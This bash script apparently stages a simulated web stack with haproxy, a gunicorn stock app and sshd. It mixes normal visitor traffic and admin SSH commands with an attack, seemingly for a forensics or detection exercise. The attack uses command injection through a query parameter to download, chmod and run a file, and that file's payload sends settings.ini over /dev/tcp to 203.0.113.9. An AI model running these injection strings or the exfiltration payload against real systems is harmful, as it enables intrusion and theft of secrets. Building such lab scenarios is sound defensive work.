# shellcheck shell=bash disable=SC2034
HOST=edge01
SECOND=app06
FORMAT=RAW
RULES=stig
SKEW=-93.25
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10/stock?$(quoted "$2")"; }

# administer HOST COMMAND
administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/ops.key" "ops@$1" "$2"
}

# visits SECONDS: two visitors, about two in a second.
visits() {
    local end=$((SECONDS + $1))
    while ((SECONDS < end)); do
        ask 192.0.2.7 chair
        sleep 0.6
        ask 192.0.2.41 lamp
        sleep 0.7
    done
}

scenario() {
    mkdir -p /srv/app /run/sshd /run/haproxy "$work/theirs"
    cp "$folder/app.py" /srv/app
    printf 'item,stock\nchair,4\nlamp,0\n' >/srv/app/stock.csv
    echo "password = orange" >/srv/app/settings.ini
    account app 4150
    account ops 4051
    chown app /srv/app
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' global '  nbthread 2' '  user haproxy' '  group haproxy' defaults '  mode http' '  timeout connect 5s' '  timeout client 30s' \
        '  timeout server 30s' 'frontend web' '  bind :80' '  option forwardfor' '  default_backend app' 'backend app' '  option httpchk GET /health' \
        '  server app06 10.88.0.20:8000 check inter 2s' >/srv/haproxy.cfg
    printf '%s\n' '#!/bin/bash' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/app/settings.ini >&3' >"$work/theirs/h"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside2 /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside2 setpriv --reuid 4150 --regid 4150 --clear-groups env HOME=/srv/home/app \
        /usr/bin/gunicorn --workers 2 --chdir /srv/app --bind 10.88.0.20:8000 app:application >/dev/null 2>&1 &
    sleep 3
    inside /usr/sbin/haproxy -db -f /srv/haproxy.cfg >/dev/null 2>&1 &
    sleep 3
    visits 34 &
    local visits=$!
    administer 10.88.0.20 "ls -l /srv/app"
    sleep 4
    ask 198.51.100.23 "x /dev/null; curl -s -o /srv/app/.h http://203.0.113.9:443/h; true"
    sleep 2
    administer 10.88.0.10 "uptime"
    ask 198.51.100.23 "x /dev/null; chmod 755 /srv/app/.h; true"
    sleep 3
    administer 10.88.0.20 "wc -l /srv/app/stock.csv"
    sleep 2.2
    ask 198.51.100.23 "x /dev/null; /srv/app/.h; true"
    wait "$visits"
    administer 10.88.0.20 "id"
}
